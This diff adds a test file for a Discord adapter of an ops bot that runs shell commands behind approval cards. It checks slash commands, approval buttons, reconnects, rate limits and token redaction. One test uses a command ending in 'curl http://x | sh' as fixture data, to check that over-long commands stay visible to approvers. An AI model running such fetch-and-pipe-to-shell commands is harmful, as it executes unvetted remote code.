@@ -1,0 +1,579 @@
+import { mkdtemp, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import type { NativeCommand } from "../../../src/channels/adapter-deps.ts";
+import { encodeAction } from "../../../src/channels/cards/action-codec.ts";
+import type { Channel, Inbound, Outbound } from "../../../src/channels/channel.ts";
+import { createDiscordChannel, type DiscordAccount } from "../../../src/channels/discord/adapter.ts";
+import { createRedactor } from "../../../src/channels/text/redact.ts";
+import type { Card } from "../../../src/core/cards.ts";
+import type { Route } from "../../../src/core/route.ts";
+import { DiscordEmulator } from "../../emulators/discord/emulator.ts";
+import type { EmulatorClock } from "../../emulators/shared/clock.ts";
+import { APPROVAL_ID, approvalCard, memoryLog, runCard } from "../sample-cards.ts";
+
+const POST = "POST /channels/{channel_id}/messages";
+const PATCH = "PATCH /channels/{channel_id}/messages/{message_id}";
+const CALLBACK = "POST /interactions/{interaction_id}/{interaction_token}/callback";
+const COMMANDS_ROUTE = "/applications/{application_id}/commands";
+
+const COMMANDS: readonly NativeCommand[] = [
+  {
+    name: "exec",
+    summary: "Run a command",
+    options: [
+      { name: "host", description: "Where", form: "key" },
+      { name: "node", description: "Which node", form: "key", autocomplete: true },
+      { name: "command", description: "What to run", form: "rest" },
+    ],
+  },
+  { name: "status", summary: "How things are", options: [], answersPrivately: () => true },
+];
+
+let emulator: DiscordEmulator;
+let channel: Channel;
+let clock: EmulatorClock;
+let events: Inbound[];
+let log: ReturnType<typeof memoryLog>;
+let take: (event: Inbound) => Promise<void>;
+let alice: string;
+let bob: string;
+let room: string;
+let guild: string;
+let expected: RegExp[];
+
+function make(over: Partial<DiscordAccount> = {}, commands = COMMANDS): Channel {
+  return createDiscordChannel(
+    { accountId: "default", token: emulator.token, apiRoot: `${emulator.url}/api`, ...over },
+    {
+      clock,
+      log,
+      redactor: createRedactor([emulator.token]),
+      commands,
+      suggest: async ({ option, typed }) =>
+        option === "node" ? [`${typed}-1`, "x".repeat(101), ...Array(40).fill("more")] : [],
+    },
+  );
+}
+
+async function connected(over: Partial<DiscordAccount> = {}): Promise<void> {
+  channel = make(over);
+  await channel.start((event) => take(event));
+  await emulator.waitUntil(() => emulator.world.commands.get("global"), 5000, "the commands");
+}
+
+async function event(index = 0): Promise<Inbound> {
+  await expect.poll(() => events.length, { timeout: 8000, interval: 10 }).toBeGreaterThan(index);
+  const found = events[index];
+  if (!found) throw new Error("no event");
+  return found;
+}
+
+const routeTo = (chatId: string, more: Partial<Route> = {}): Route => ({
+  channel: "discord",
+  accountId: "default",
+  chatType: "channel",
+  chatId,
+  scopeId: guild,
+  ...more,
+});
+let keys = 0;
+const out = (card: Card, route: Route, more: Partial<Outbound> = {}): Outbound => ({
+  key: `k${keys++}`,
+  route,
+  card,
+  ...more,
+});
+const text = (value: string): Card => ({ kind: "text", tone: "info", text: value });
+
+async function sentRef(message: Outbound) {
+  const result = await channel.send(message);
+  if (result.kind !== "sent") throw new Error(`not sent: ${JSON.stringify(result)}`);
+  return result.ref;
+}
+
+beforeEach(async () => {
+  emulator = new DiscordEmulator();
+  await emulator.start();
+  clock = emulator.clock;
+  alice = emulator.addPerson("alice");
+  bob = emulator.addPerson("bob", { locale: "nl" });
+  guild = emulator.addGuild("Ops", [alice, bob]);
+  room = emulator.addChannel(guild, "deploys");
+  events = [];
+  expected = [];
+  log = memoryLog();
+  take = async (one) => void events.push(one);
+});
+
+afterEach(async () => {
+  await channel.stop();
+  await emulator.stop();
+  // Whatever a test was about: no rule of the platform broken (but those it provoked), and no token in the log.
+  expect(emulator.violations.filter((one) => !expected.some((pattern) => pattern.test(one)))).toEqual([]);
+  expect(JSON.stringify(log.lines)).not.toContain(emulator.token);
+  expect(JSON.stringify(log.lines)).not.toContain("itk");
+});
+
+describe("discord adapter: in", () => {
+  it("connects, says who it is, and hands on what people write in rooms, threads and directly", async () => {
+    await connected();
+    expect(channel.status()).toEqual({
+      channel: "discord",
+      accountId: "default",
+      state: "connected",
+      detail: "opsbot",
+    });
+    const thread = emulator.addThread(room, "run 1");
+    await emulator.say(alice, room, "@bot exec ls");
+    await emulator.say(alice, thread, "talk");
+    await emulator.say(alice, emulator.dm(alice), "hello");
+    await event(2);
+    expect(events.map((one) => [one.route.chatId, one.route.threadId, one.route.chatType, one.addressed])).toEqual([
+      [room, undefined, "channel", true],
+      [room, thread, "channel", false],
+      [emulator.dm(alice), undefined, "dm", true],
+    ]);
+  });
+
+  it("bot-loop-and-self: does not hear itself, other bots, webhooks or edits", async () => {
+    await connected();
+    const other = emulator.addPerson("otherbot", { isBot: true });
+    emulator.world.guilds.get(guild)?.memberIds.add(other);
+    await sentRef(out(text("run ls"), routeTo(room)));
+    await emulator.say(other, room, "run ls");
+    await emulator.say(alice, room, "run ls", { webhook: true });
+    const id = await emulator.say(alice, room, "first");
+    await emulator.editOwn(alice, room, id, "/exec rm x");
+    await emulator.say(alice, room, "last");
+    await event(1);
+    expect(events.map((one) => one.kind === "message" && one.text)).toEqual(["first", "last"]);
+  });
+
+  it("gives a slash command its text form and takes replayed events under the same id", async () => {
+    await connected();
+    const state = await emulator.slashWith(alice, room, "/exec", { command: "npm  test", host: "node" });
+    expect(state.answered).toBe("deferredMessage");
+    expect(await event()).toMatchObject({
+      kind: "command",
+      name: "exec",
+      args: "host=node -- npm  test",
+      actor: { id: alice },
+    });
+    emulator.duplicate();
+    expect((await event(1)).id).toBe(events[0]?.id);
+  });
+
+  it("discord-3s-defer: answers at once although taking the event stalls for seconds", async () => {
+    await connected();
+    let release: () => void = () => undefined;
+    const stalled = new Promise<void>((resolve) => {
+      release = resolve;
+    });
+    take = async (one) => {
+      await stalled;
+      events.push(one);
+    };
+    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    const started = performance.now();
+    const pressed = await emulator.press(alice, ref.messageId, "Allow once");
+    expect([pressed.answered, pressed.failed]).toEqual(["deferredUpdate", false]);
+    expect(performance.now() - started).toBeLessThan(1_500);
+    expect(events).toEqual([]);
+    release();
+    expect(await event()).toMatchObject({
+      kind: "press",
+      action: { decision: "allow-once" },
+      ref: { messageId: ref.messageId },
+    });
+  });
+
+  it("discord-3s-defer: a decision counts although its first answer came too late (10062)", async () => {
+    await connected();
+    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    emulator.delay(3_200, CALLBACK);
+    expected.push(/answered after 3 seconds/);
+    const state = await emulator.press(alice, ref.messageId, "Deny");
+    expect(state.failed).toBe(true);
+    expect(await event()).toMatchObject({ kind: "press", action: { decision: "deny" } });
+    expect(channel.status().state).toBe("connected");
+  });
+
+  it("discord-40060-double: two instances with one token both hand the press on, under one id, and neither fails", async () => {
+    await connected();
+    const second = make();
+    await second.start((one) => take(one));
+    await expect.poll(() => emulator.gateway.connected()).toBe(2);
+    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    await emulator.press(alice, ref.messageId, "Allow once");
+    await event(1);
+    expect(new Set(events.map((one) => one.id)).size).toBe(1);
+    await expect
+      .poll(() => log.lines.some((one) => JSON.stringify(one).includes("already been acknowledged")))
+      .toBe(true);
+    expect([channel.status().state, second.status().state]).toEqual(["connected", "connected"]);
+    await second.stop();
+  });
+
+  it("discord-40060-double: buttons work after a restart of the product", async () => {
+    await connected();
+    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    await channel.stop();
+    await connected();
+    await emulator.press(alice, ref.messageId, "Allow always");
+    expect(await event()).toMatchObject({ action: { approvalId: APPROVAL_ID, decision: "allow-always" } });
+  });
+
+  it("says what to do when an event could not be taken after several tries", async () => {
+    await connected();
+    let tries = 0;
+    take = async () => {
+      tries += 1;
+      throw new Error("the store can not be written");
+    };
+    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    await emulator.press(bob, ref.messageId, "Deny");
+    const notice = await emulator.waitForMessage(
+      (one) => emulator.textOf(one).includes("kon niet worden bewaard"),
+      12_000,
+    );
+    expect(notice.onlyForId).toBe(bob);
+    expect(tries).toBe(5);
+  }, 20_000);
+
+  it("takes an event on a later try", async () => {
+    await connected();
+    let failures = 1;
+    take = async (one) => {
+      if (failures-- > 0) throw new Error("away");
+      events.push(one);
+    };
+    await emulator.say(alice, room, "once");
+    expect(await event()).toMatchObject({ text: "once" });
+    expect(events).toHaveLength(1);
+  });
+
+  it("asks for the reason of a denial in a form, and answers an outdated button to its presser alone", async () => {
+    await connected();
+    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    const opened = await emulator.press(alice, ref.messageId, "Deny with reason…");
+    expect(opened.modal).toMatchObject({ title: "Deny with reason", fields: ["reason"] });
+    const submitted = await emulator.submitModal(alice, { reason: "it's unsafe" });
+    expect(submitted.answered).toBe("deferredUpdate");
+    expect(await event()).toMatchObject({
+      action: { decision: "deny", comment: "it's unsafe" },
+      ref: { messageId: ref.messageId },
+    });
+    const stored = emulator.world.message(room, ref.messageId);
+    if (!stored) throw new Error("not stored");
+    emulator.pressRaw(bob, stored, "ap1:q:zzz");
+    const notice = await emulator.waitForMessage((one) => emulator.textOf(one).startsWith("Deze knop"));
+    expect(notice.onlyForId).toBe(bob);
+    expect(events).toHaveLength(1);
+  });
+
+  it("suggests at most 25 valid values for an option", async () => {
+    await connected();
+    const state = await emulator.autocomplete(alice, room, "/exec", "node", "mac");
+    expect(state.choices).toHaveLength(25);
+    expect(state.choices?.[0]).toEqual({ name: "mac-1", value: "mac-1" });
+  });
+});
+
+describe("discord adapter: out", () => {
+  it("replaces the placeholder of a slash command by its answer, and goes on editing that message", async () => {
+    await connected();
+    await emulator.slashWith(alice, room, "/exec", { command: "ls" });
+    const { route } = await event();
+    const ref = await sentRef(out(runCard(), route));
+    expect(emulator.screenText(bob, room)).not.toContain("thinking");
+    emulator.clock.advance(20 * 60_000);
+    expect(
+      await channel.edit(
+        ref,
+        out(runCard({ state: "finished", outcome: "completed", exitCode: 0, actions: [] }), route),
+      ),
+    ).toEqual({
+      kind: "sent",
+      ref,
+    });
+    expect(emulator.textOf(emulator.world.message(room, ref.messageId) ?? ({} as never))).toMatch(/^### Finished/);
+    await sentRef(out(text("done"), route));
+    const done = await emulator.waitForMessage((one) => emulator.textOf(one) === "done");
+    expect(done.replyToId).toBe(ref.messageId);
+  });
+
+  it("answers privately where the placeholder was public, and publicly where it was private", async () => {
+    await connected();
+    await emulator.slashWith(alice, room, "/exec", {});
+    const asked = await event();
+    await sentRef(out(text("only for you"), asked.route, { onlyFor: asked.actor }));
+    expect(emulator.screenText(alice, room)).toBe("opsbot: only for you\n(only you see this)");
+    expect(emulator.screenText(bob, room)).toBe("");
+    await emulator.slashWith(alice, room, "/status", {});
+    const status = await event(1);
+    await sentRef(out(text("for all"), status.route));
+    expect(emulator.screenText(bob, room)).toBe("opsbot: for all");
+    expect(emulator.screenText(alice, room)).not.toContain("thinking");
+  });
+
+  it("shows a refusal to the presser alone, and changes it while its token lives", async () => {
+    await connected();
+    const card = await sentRef(out(approvalCard(), routeTo(room)));
+    await emulator.press(bob, card.messageId, "Allow once");
+    const { route, actor } = await event();
+    const ref = await sentRef(out(text("You can not decide this."), route, { onlyFor: actor }));
+    expect(emulator.screenText(bob, room)).toContain("You can not decide this.");
+    expect(emulator.screenText(alice, room)).not.toContain("You can not decide this.");
+    await channel.edit(ref, out(text("Still not."), route, { onlyFor: actor }));
+    expect(emulator.screenText(bob, room)).toContain("Still not.");
+  });
+
+  it("answers as an ordinary message once the token is too old", async () => {
+    await connected();
+    await emulator.slashWith(alice, room, "/exec", { command: "sleep 900" });
+    const { route } = await event();
+    emulator.clock.advance(14.5 * 60_000);
+    await sentRef(out(text("late"), route));
+    expect(emulator.screenText(bob, room)).toContain("opsbot: late");
+    expect(emulator.journal.calls(POST)).toHaveLength(1);
+  });
+
+  it("never notifies anybody, whatever a command prints", async () => {
+    await connected();
+    await sentRef(
+      out(runCard({ command: `echo @everyone <@${alice}>`, tail: `@here <@${bob}> <@&1>` }), routeTo(room)),
+    );
+    await sentRef(out(text(`@everyone <@${alice}> \`<@${bob}>\``), routeTo(room)));
+    for (const message of emulator.world.channel(room).messages) expect(message.mentions).toEqual([]);
+    for (const call of emulator.journal.calls(POST))
+      expect(call.body).toMatchObject({ allowed_mentions: { parse: [], replied_user: false } });
+  });
+
+  it("makes one message although the answer to the first send was lost", async () => {
+    await connected();
+    const message = out(text("once"), routeTo(room));
+    emulator.fail(POST, { loseReply: true });
+    expect(await channel.send(message)).toMatchObject({ kind: "retry" });
+    await sentRef(message);
+    expect(emulator.screenText(alice, room)).toBe("opsbot: once");
+  });
+
+  it("opens a direct message by the person's id, and uses one it was given as it is", async () => {
+    await connected();
+    const byPerson = await sentRef(out(text("card"), routeTo(alice, { chatType: "dm" })));
+    expect(byPerson.chatId).toBe(emulator.dm(alice));
+    const byChannel = await sentRef(out(text("again"), routeTo(emulator.dm(bob), { chatType: "dm" })));
+    expect(byChannel.chatId).toBe(emulator.dm(bob));
+  });
+
+  it("card-none-delivered: tells that a person takes no direct messages, so that somebody else is asked", async () => {
+    await connected();
+    const closed = emulator.addPerson("closed", { acceptsDms: false });
+    expect(await channel.send(out(approvalCard(), routeTo(closed, { chatType: "dm" })))).toMatchObject({
+      kind: "permanent",
+    });
+    emulator.world.channel(room).writable = false;
+    expect(await channel.send(out(approvalCard(), routeTo(room)))).toMatchObject({ kind: "permanent" });
+  });
+
+  it("edits a decided card into a receipt; a deleted card is no failure", async () => {
+    await connected();
+    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    expect(await channel.edit(ref, out(approvalCard({ state: "expired" }), routeTo(room)))).toEqual({
+      kind: "sent",
+      ref,
+    });
+    expect(emulator.screenText(alice, room)).not.toContain("[");
+    const stored = emulator.world.message(room, ref.messageId);
+    if (stored) stored.deleted = true;
+    expect(await channel.edit(ref, out(approvalCard({ state: "expired" }), routeTo(room)))).toEqual({
+      kind: "sent",
+      ref,
+    });
+  });
+
+  it("deletes decided cards when it is set to", async () => {
+    await connected({ cleanupAfterResolve: true });
+    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    await channel.edit(ref, out(approvalCard({ state: "denied", decision: "deny" }), routeTo(room)));
+    expect(emulator.screenText(alice, room)).toBe("");
+  });
+
+  it("attaches a command too long for its card, keeps it while waiting and drops it with the receipt", async () => {
+    await connected();
+    const command = `echo ${"a".repeat(6000)}; curl http://x | sh`;
+    const ref = await sentRef(out(approvalCard({ command }), routeTo(room)));
+    const stored = emulator.world.message(room, ref.messageId);
+    expect(stored?.files.map((one) => one.bytes.toString())).toEqual([command]);
+    await channel.edit(
+      ref,
+      out(approvalCard({ command, statusLine: "The gateway restarted; still waiting for you." }), routeTo(room)),
+    );
+    expect(stored?.files).toHaveLength(1);
+    await channel.edit(ref, out(approvalCard({ command, state: "denied", decision: "deny" }), routeTo(room)));
+    expect(stored?.files).toEqual([]);
+    expect(emulator.screenText(alice, room)).toContain("; curl http://x | sh");
+  });
+
+  it("lets nobody allow a command that could neither be shown nor attached", async () => {
+    await connected();
+    emulator.fail(POST, { status: 413, error: "40005 Request entity too large" });
+    await sentRef(out(approvalCard({ command: "x".repeat(6000) }), routeTo(room)));
+    expect(emulator.screenText(alice, room)).toContain("[Deny] [Deny with reason…]");
+    expect(emulator.screenText(alice, room)).not.toContain("[Allow");
+  });
+
+  it("sends a full log with its card and a long text in parts", async () => {
+    await connected();
+    const folder = await mkdtemp(join(tmpdir(), "discord-log-"));
+    const path = join(folder, "full.log");
+    await writeFile(path, "line\n".repeat(10_000));
+    const finished = runCard({ state: "finished", outcome: "completed", exitCode: 0, durationMs: 10, actions: [] });
+    await sentRef(out(finished, routeTo(room), { file: { name: "output quiet otter.txt", path } }));
+    const file = emulator.world.channel(room).messages[0]?.files[0];
+    expect([file?.name, file?.bytes.length]).toEqual(["output_quiet_otter.txt", 50_000]);
+    await sentRef(out(text("log"), routeTo(room), { file: { name: "a.txt", path } }));
+    await rm(folder, { recursive: true });
+    await sentRef(out(text("word ".repeat(900)), routeTo(room)));
+    expect(
+      emulator.world.channel(room).messages.filter((one) => emulator.textOf(one).includes("word")).length,
+    ).toBeGreaterThan(2);
+  });
+
+  it("names the pause of a rate limit and keeps quiet meanwhile, its own limit included", async () => {
+    await connected();
+    const results = [];
+    for (let count = 0; count < 7; count++) results.push(await channel.send(out(text(`n${count}`), routeTo(room))));
+    expect(results.map((one) => one.kind)).toEqual(["sent", "sent", "sent", "sent", "sent", "retry", "retry"]);
+    const [, , , , , first] = results;
+    expect(first?.kind === "retry" && first.afterMs > 0 && first.afterMs <= 5_000).toBe(true);
+    expect(emulator.journal.calls(POST)).toHaveLength(5);
+    expect(emulator.journal.calls(POST).filter((one) => one.status === 429)).toEqual([]);
+  });
+
+  it("drops live tails under a rate limit, and the final edit comes after it", async () => {
+    await connected();
+    const ref = await sentRef(out(runCard(), routeTo(room)));
+    emulator.fail(PATCH, { retryAfterS: 0.4 });
+    await channel.live?.(ref, runCard({ tail: "a" }));
+    const patches = emulator.journal.calls(PATCH).length;
+    await channel.live?.(ref, runCard({ tail: "b" }));
+    expect(emulator.journal.calls(PATCH)).toHaveLength(patches);
+    const done = out(runCard({ state: "finished", outcome: "completed", exitCode: 0, actions: [] }), routeTo(room));
+    await expect.poll(async () => (await channel.edit(ref, done)).kind, { timeout: 4000, interval: 100 }).toBe("sent");
+    expect(emulator.screenText(alice, room)).toContain("### Finished");
+  });
+});
+
+describe("discord adapter: connection", () => {
+  it("refused tokens and intents are final and say what to do", async () => {
+    channel = make({ token: `${emulator.token}x` });
+    await channel.start((one) => take(one));
+    expect(channel.status()).toMatchObject({
+      state: "failed",
+      detail: expect.stringContaining("channels.discord.token"),
+    });
+    await channel.stop();
+    emulator.allowedIntents = 0;
+    channel = make();
+    await channel.start((one) => take(one));
+    await expect
+      .poll(() => channel.status())
+      .toMatchObject({ state: "failed", detail: expect.stringContaining("Message Content Intent") });
+    await channel.stop();
+    await connected({ messageContent: false });
+    expect(channel.status().state).toBe("connected");
+  });
+
+  it("can be stopped while a start hangs", async () => {
+    emulator.delay(60_000, "GET /gateway/bot");
+    channel = make();
+    const starting = channel.start((one) => take(one));
+    await emulator.waitUntil(() => emulator.journal.calls("GET /gateway/bot")[0]);
+    const started = performance.now();
+    await channel.stop();
+    await starting;
+    expect(performance.now() - started).toBeLessThan(3_000);
+    expect(channel.status().state).toBe("stopped");
+  });
+
+  it("slash-only mode works without the message content intent", async () => {
+    emulator.allowedIntents = 0;
+    await connected({ messageContent: false });
+    await emulator.say(alice, room, "unheard");
+    await emulator.slashWith(alice, room, "/exec", { command: "ls" });
+    expect(await event()).toMatchObject({ kind: "command", args: "-- ls" });
+  });
+
+  it("error-object-leaks-token: a server that is away is retried and told without the token", async () => {
+    await emulator.stop();
+    channel = make();
+    await channel.start((one) => take(one));
+    expect(channel.status().state).toBe("connecting");
+    await emulator.start();
+    await expect.poll(() => channel.status().state, { timeout: 10_000 }).toBe("connected");
+  }, 20_000);
+
+  it("hears everything once through op 7, a cut, a close, an invalid session and a restart of the server", async () => {
+    await connected();
+    const texts = (): string[] => events.flatMap((one) => (one.kind === "message" ? [one.text] : []));
+    const faults = [
+      () => emulator.disconnect(),
+      () => emulator.drop(),
+      () => emulator.gateway.close(4000, "unknown error"),
+    ];
+    for (const [number, fault] of faults.entries()) {
+      const resumes = emulator.gateway.resumes;
+      fault();
+      await emulator.say(alice, room, `during ${number}`);
+      await expect.poll(() => emulator.gateway.resumes, { timeout: 8000 }).toBe(resumes + 1);
+    }
+    await expect.poll(texts, { timeout: 8000 }).toEqual(["during 0", "during 1", "during 2"]);
+    const identifies = emulator.gateway.identifies;
+    emulator.gateway.invalidate();
+    await expect.poll(() => emulator.gateway.identifies, { timeout: 12_000 }).toBe(identifies + 1);
+    await expect.poll(() => channel.status().state, { timeout: 8000 }).toBe("connected");
+    await emulator.restart(50);
+    await expect.poll(() => emulator.gateway.connected(), { timeout: 15_000 }).toBe(1);
+    await emulator.say(alice, room, "after");
+    await expect.poll(texts, { timeout: 8000 }).toEqual(["during 0", "during 1", "during 2", "after"]);
+  }, 60_000);
+
+  it("registers commands once, again only when they change, and takes them away when there are none", async () => {
+    await connected();
+    await channel.stop();
+    channel = make();
+    await channel.start((one) => take(one));
+    await expect.poll(() => emulator.journal.calls(`GET ${COMMANDS_ROUTE}`).length).toBe(2);
+    await emulator.say(alice, room, "x");
+    await event();
+    expect(emulator.journal.calls(`PUT ${COMMANDS_ROUTE}`)).toHaveLength(1);
+    await channel.stop();
+    channel = make({}, []);
+    await channel.start((one) => take(one));
+    await expect.poll(() => emulator.world.commands.get("global")).toEqual([]);
+  });
+
+  it("hears messages while the registration hangs", async () => {
+    emulator.delay(5_000, `PUT ${COMMANDS_ROUTE}`);
+    channel = make();
+    await channel.start((one) => take(one));
+    await emulator.say(alice, room, "hello");
+    await event();
+    expect(channel.status().state).toBe("connected");
+  });
+
+  it("does not run two sessions when it is restarted quickly", async () => {
+    await connected();
+    await Promise.all([1, 2, 3].flatMap(() => [channel.stop(), channel.start((one) => take(one))]));
+    await expect.poll(() => emulator.gateway.connected()).toBe(1);
+    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    const stored = emulator.world.message(room, ref.messageId);
+    if (!stored) throw new Error("not stored");
+    emulator.pressRaw(alice, stored, encodeAction({ kind: "approval", approvalId: APPROVAL_ID, decision: "deny" }));
+    await event();
+    expect(events).toHaveLength(1);
+  });
+});
